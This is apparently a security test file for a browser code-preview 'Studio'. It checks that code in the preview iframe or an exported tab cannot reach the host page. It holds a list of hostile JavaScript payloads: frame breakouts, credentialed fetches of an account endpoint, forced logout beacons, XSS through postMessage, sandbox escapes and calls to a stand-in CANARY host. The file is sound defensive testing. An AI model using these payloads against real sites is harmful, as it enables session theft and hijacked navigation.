import {describeWithBrowser} from '@facsimile/platform/browser/testing/describe-with-browser.ts'
import {BREAKOUTS, PAYLOADS} from '@facsimile/platform/testing/hostile/payloads.ts'
import {provokeFrames} from '@facsimile/platform/testing/hostile/watch.ts'
import type {Page} from 'playwright-core'
import {afterAll, beforeAll, expect, it} from 'vitest'
import {type SafetyBench, safetyBench} from '../../testing/safety.ts'
import {write} from '../../testing/open-studio.ts'

/** What code in the preview does against the Studio on purpose. */
const ATTACKS: readonly string[] = [
  'parent.alert(1)',
  'top.alert(1)',
  'top.location = "CANARY/top"',
  'parent.location.hash = "#v1.taken"',
  'parent.location = "javascript:alert(1)"',
  'location = "javascript:parent.alert(1)"',
  'location = "HOME/account/me"',
  'location = "HOME/studio/"',
  'location = "CANARY/self"',
  'location = URL.createObjectURL(new Blob(["<script>parent.alert(1); fetch(`HOME/account/me`, {credentials: `include`})</script>"], {type: "text/html"}))',
  'open("CANARY/popup")',
  'open("javascript:alert(1)", "_top")',
  'open("CANARY/named", "_parent")',
  'fetch("HOME/account/me", {credentials: "include"})',
  'fetch("HOME/auth/log-out", {method: "POST", credentials: "include", mode: "no-cors"})',
  'new XMLHttpRequest().open("GET", "HOME/account/me")',
  'navigator.sendBeacon("HOME/auth/log-out", "x"); navigator.sendBeacon("CANARY/beacon", "x")',
  'new WebSocket("CANARY/socket".replace("http", "ws"))',
  'new EventSource("CANARY/events")',
  'new Worker(URL.createObjectURL(new Blob(["fetch(`CANARY/worker`)"])))',
  'import("CANARY/module.js")',
  'new Image().src = "HOME/account/me"',
  'document.cookie = "taken=1; path=/"',
  'navigator.serviceWorker?.register("/preview/frame.html")',
  'document.write("<script src=CANARY/written.js></scr" + "ipt><img src=HOME/account/me>")',
  'const f = document.createElement("iframe"); f.src = "HOME/studio/"; document.body.append(f)',
  'const f = document.createElement("iframe"); f.setAttribute("sandbox", "allow-scripts allow-same-origin allow-top-navigation"); f.srcdoc = "<script>top.location=`CANARY/nested`</scr" + "ipt>"; document.body.append(f)',
  'const l = document.createElement("link"); l.rel = "prerender prefetch dns-prefetch preconnect"; l.href = "CANARY/prefetch"; document.head.append(l)',
  'parent.postMessage({kind: "log", level: "\\"><img src=x onerror=alert(1)>", text: "<img src=x onerror=alert(1)>"}, "*")',
  'parent.postMessage({kind: "shown", height: {valueOf: () => 1}}, "*")',
  'parent.postMessage({kind: "shown", height: "<img src=x onerror=alert(1)>"}, "*")',
  'for (const kind of ["markup", "component", "styles", "fonts", "ready"]) parent.postMessage({kind, html: "<img src=x onerror=alert(1)>", script: "alert(1)", css: "", faces: []}, "*")',
  'console.log("%c<img src=x onerror=alert(1)>", "background: url(CANARY/log.png)")',
  'Object.prototype.kind = "log"; parent.postMessage({}, "*")'
]

const drawn = (page: Page) =>
  page
    .locator('.frame iframe[data-state="shown"]')
    .or(page.getByText('The code sent the preview elsewhere'))
    .first()
    .waitFor()

await describeWithBrowser('the preview', () => {
  let bench: SafetyBench
  beforeAll(async () => {
    bench = await safetyBench()
  })
  afterAll(() => bench?.close())

  it('keeps what runs in it to an origin of its own', async () => {
    const {context, page, watch, violations} = await bench.open()
    await page.goto(`${bench.service.origin}/studio/`)
    await page.waitForSelector('#editor-code .cm-content')
    const codes = [
      ...PAYLOADS.map(({html}) => html),
      ...BREAKOUTS,
      ...ATTACKS.map((script) => `<p>a</p><script>alert(0);${script}</script>`)
    ]
    for (const code of codes) {
      await write(page, bench.arm(code))
      await page.waitForTimeout(120)
      await drawn(page)
      await provokeFrames(page)
      expect(page.url(), code).toBe(`${bench.service.origin}/studio/`)
      expect(await violations({mayRunInFrames: true}), code).toEqual([])
    }
    // It was no empty test: code ran, where it may.
    expect(watch.fired.length).toBeGreaterThan(20)
    expect(context.pages()).toHaveLength(1)
    expect(await page.evaluate(() => document.cookie)).toBe('')
    const me = await page.evaluate(() => fetch('/account/me').then(({status}) => status))
    expect(me).toBe(200)
    await context.close()
  }, 300_000)

  it('keeps components in JSX there as well', async () => {
    const {context, page, violations} = await bench.open()
    await page.goto(`${bench.service.origin}/studio/`)
    await page.waitForSelector('#editor-code .cm-content')
    await page.getByRole('radio', {name: 'JSX'}).click()
    const codes = [
      ...ATTACKS.map(
        (script) =>
          `export default function A() { (() => { ${script.replaceAll('</scr" + "ipt>', '</scr" + "ipt>')} })(); return <p>a</p> }`
      ),
      'export default () => <div dangerouslySetInnerHTML={{__html: "<img src=x onerror=parent.alert(1)>"}} />',
      'export default () => <iframe srcDoc="<script>top.alert(1)</script>" />',
      'export default () => <a href="javascript:parent.alert(1)" target="_top">a</a>',
      '}) ; parent.alert(1); (function () {',
      '</script><script>parent.alert(1)</script>'
    ]
    for (const code of codes) {
      await write(page, bench.arm(code))
      await page.waitForTimeout(120)
      await provokeFrames(page)
      expect(page.url(), code).toBe(`${bench.service.origin}/studio/`)
      expect(await violations({mayRunInFrames: true}), code).toEqual([])
    }
    await context.close()
  }, 300_000)

  it('gives a page in a tab of its own nothing of the Studio either', async () => {
    const {context, page, violations} = await bench.open()
    await page.goto(`${bench.service.origin}/studio/`)
    await page.waitForSelector('#editor-code .cm-content')
    const codes = [
      'opener?.alert(1); parent.alert(1); top.alert(1)',
      'if (opener) opener.location = "CANARY/opener"',
      'top.location = "CANARY/away"',
      'location = "CANARY/self"',
      'location = "HOME/account/me"',
      'fetch("HOME/account/me", {credentials: "include"})',
      'open("CANARY/popup")'
    ]
    for (const script of codes) {
      await write(page, bench.arm(`<h1>Alone</h1><script>setTimeout(() => { ${script} }, 300)</script>`))
      await page.waitForTimeout(300)
      const opened = context.waitForEvent('page')
      await page.getByRole('button', {name: 'Export'}).click()
      await page.getByRole('button', {name: 'Open in a new tab'}).click()
      const tab = await opened
      await tab.waitForTimeout(1200)
      expect(new URL(tab.url()).origin, script).toBe(bench.service.origin)
      expect(page.url(), script).toBe(`${bench.service.origin}/studio/`)
      // Whatever it does to itself, it cannot lead the Studio away later.
      expect(await tab.evaluate(() => self.opener === null), script).toBe(true)
      expect(await violations({mayRunInFrames: true}), script).toEqual([])
      expect(context.pages(), script).toHaveLength(2)
      await tab.close()
      await page.keyboard.press('Escape')
    }
    await context.close()
  }, 120_000)
})
